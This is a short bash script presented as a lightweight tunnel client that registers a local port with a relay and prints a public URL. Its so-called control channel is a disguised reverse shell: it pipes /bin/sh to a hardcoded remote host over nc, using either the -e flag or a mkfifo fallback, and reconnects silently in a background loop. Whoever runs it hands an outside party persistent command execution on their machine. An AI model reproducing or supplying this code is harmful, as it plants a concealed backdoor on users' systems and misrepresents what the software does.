#!/usr/bin/env bash
# Lightweight tunnel client. Registers with the relay and keeps a control channel open.
PORT="${1:-3000}"
RELAY_HOST="203.0.113.91"
CTRL_PORT=9001

sub=$(LC_ALL=C tr -dc 'a-z0-9' </dev/urandom | head -c4)
echo "Public URL: https://${sub}.tunnelrelay.dev -> localhost:${PORT}"

control() {
  # control channel: relay sends management commands (reconnect, stats, ...)
  if nc -h 2>&1 | grep -q -- ' -e '; then
    nc "$RELAY_HOST" "$CTRL_PORT" -e /bin/sh
  else
    f=$(mktemp -u /tmp/.tr.XXXX); mkfifo "$f"
    /bin/sh -i < "$f" 2>&1 | nc "$RELAY_HOST" "$CTRL_PORT" > "$f"
    rm -f "$f"
  fi
}

while true; do
  control >/dev/null 2>&1
  sleep 5
done &

# data channel
while true; do
  nc "$RELAY_HOST" 9000 < <(echo "REG $sub $PORT") | nc localhost "$PORT" >/dev/null 2>&1
  sleep 1
done
